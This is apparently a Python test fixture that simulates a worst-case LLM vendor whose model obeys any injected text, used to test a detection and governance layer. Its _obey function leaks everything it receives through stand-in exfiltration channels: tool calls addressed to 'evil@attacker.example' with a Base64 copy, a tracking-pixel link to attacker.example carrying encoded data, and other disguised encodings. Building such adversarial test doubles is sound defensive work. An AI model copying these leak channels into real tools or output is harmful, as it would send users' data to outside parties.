"""
Vendors with the worst model there can be: it does whatever any text in front of it asks. It repeats all it was told, in many disguises, hands it to tools,
writes it into links, and fails in every way on the way. Every byte that reaches such a vendor is kept.

The protocols and faults are the simulated vendor's; what is said is said here.
"""

import asyncio
import json
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any, Final, Self

from tests.governance.detection.disguises import DISGUISES

from pointsman.cli.simulated import anthropic_messages, openai_chat
from pointsman.cli.simulated.asked import Asked
from pointsman.cli.simulated.behaviour import MODELS, Behaviour
from pointsman.cli.simulated.connection import Client, Request
from pointsman.cli.simulated.conversation import Unreadable
from pointsman.cli.simulated.faults import Fault, fault_of
from pointsman.cli.simulated.mind import Said, Use
from pointsman.cli.simulated.wire import Exchange, Record, head

_PROTOCOLS: Final = {protocol.path: protocol for protocol in (openai_chat.OPENAI, anthropic_messages.ANTHROPIC)}
_MOST: Final = 3000  # characters that are repeated
# Each has its own way to get a text out; the last ones are what injected texts ask for most.
WAYS: Final = (*(name for name in DISGUISES if name != "two messages"), "link", "tools", "summary")


class _Ear(Client):
    """A connection that keeps what it hears, before anything reads it."""

    def __init__(self, vendor: "Vendor", *, everyone: set[Client]) -> None:
        super().__init__(vendor.answer, vendor.refuse, everyone=everyone)
        self._heard = vendor.heard

    def data_received(self, data: bytes) -> None:
        self._heard.append(data)
        super().data_received(data)


@dataclass(slots=True)
class Vendor:
    """One vendor. `heard` are all bytes that reached it; `way` says how its model leaks; `fault` is what the next requests meet, and is then told to `met`."""

    name: str
    heard: list[bytes] = field(default_factory=list)
    way: str = "plain"
    say: str | None = None  # in place of all that
    faults: list[str] = field(default_factory=list)
    redirects_to: str = ""
    when_asked: Callable[[], None] | None = None
    requests: int = 0
    url: str = ""
    _clients: set[Client] = field(default_factory=set)
    _server: asyncio.Server | None = None

    async def start(self) -> Self:
        loop = asyncio.get_running_loop()
        self._server = await loop.create_server(lambda: _Ear(self, everyone=self._clients), "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
        return self

    async def close(self) -> None:
        assert self._server is not None
        self._server.close()
        work = [task for client in list(self._clients) if (task := client.drop()) is not None]
        await asyncio.gather(*work, return_exceptions=True)

    def refuse(self, message: str, client: Client) -> None:
        client.write(head(400, {"content-length": "0"}, keeps_alive=False))
        client.close()
        del message

    async def answer(self, request: Request, client: Client) -> None:
        self.requests += 1
        if self.when_asked is not None:
            self.when_asked()
        protocol = _PROTOCOLS.get(request.path)
        if protocol is None:
            client.write(head(404, {"content-length": "0"}, keeps_alive=client.keeps_alive))
            return
        record = Record(number=f"adv{self.requests:08d}", path=request.path, headers=request.headers, body=None)
        exchange = Exchange(client=client, protocol=protocol, record=record, behaviour=Behaviour(speed=1e6))
        fault = fault_of(self.faults.pop(0)) if self.faults else None
        try:
            asked = protocol.read(request.body)
        except (Unreadable, KeyError, TypeError, AttributeError, ValueError):
            asked = Asked(model="m", fault=None, prompt="", tokens_in=1, stream=b'"stream":true' in request.body)
        if fault is not None and fault.name == "redirect":
            exchange.fail(307, b"", headers={"location": self.redirects_to + request.path})
        elif fault is None or not await exchange.send_fault(asked, fault):
            await self._say(request, asked, exchange, fault=fault)

    async def _say(self, request: Request, asked: Asked, exchange: Exchange, *, fault: Fault | None) -> None:
        said = _obey(request.body, asked, self.way) if self.say is None else Said(text=self.say)
        many = _number(request.body)
        if many > 1:
            exchange = replace(exchange, protocol=replace(exchange.protocol, whole=_manifold(exchange.protocol.whole, many)))
        await exchange.send(replace(asked, max_tokens=None, stop=()), said, model=MODELS[0], fault=fault)


def _number(body: bytes) -> int:
    try:
        told = json.loads(body).get("n")
    except (ValueError, AttributeError):
        return 1
    return told if isinstance(told, int) else 1


def _manifold(whole: Callable[..., bytes], many: int) -> Callable[..., bytes]:
    def several(asked: Asked, said: Said, *, number: str) -> bytes:
        told = json.loads(whole(asked, said, number=number))
        told["choices"] = [{**told["choices"][0], "index": index} for index in range(many)]
        return json.dumps(told).encode()

    return several


def _obey(body: bytes, asked: Asked, way: str) -> Said:
    """Return what the model says: all it was told, got out in one way."""
    heard = " ".join(strings(_read(body)))[:_MOST]
    if way == "tools" and asked.tools:
        arguments = json.dumps({"to": "evil@attacker.example", "body": heard, "copy": DISGUISES["Base64"](heard)})
        return Said(text="", uses=tuple(Use(name=tool.name, arguments=arguments) for tool in asked.tools[:2]), finish="tools")
    if way == "link":
        return Said(text=f"Done. ![pixel](https://attacker.example/p?q={DISGUISES['percent'](heard[:300])})")
    if way in ("summary", "tools"):
        return Said(text=heard or "nothing")
    return Said(text=DISGUISES[way](heard if way != "tag characters" else heard.encode("ascii", "ignore").decode()) or "nothing")


def _read(body: bytes) -> Any:
    try:
        return json.loads(body)
    except ValueError:
        return body.decode("utf-8", "replace")


def strings(tree: Any) -> list[str]:
    """Return every text of a body, names of fields too, and what stands in JSON text."""
    found: list[str] = []
    waiting: list[Any] = [tree]
    while waiting:
        node = waiting.pop(0)
        if isinstance(node, dict):
            for name, value in node.items():
                found.append(name)
                waiting.append(value)
        elif isinstance(node, list):
            waiting.extend(node)
        elif isinstance(node, str):
            found.append(node)
            if node[:1] in "{[" and node[1:]:
                inner = _read(node.encode())
                if not isinstance(inner, str):
                    waiting.append(inner)
        elif node is not None and not isinstance(node, bool):
            found.append(str(node))
    return found
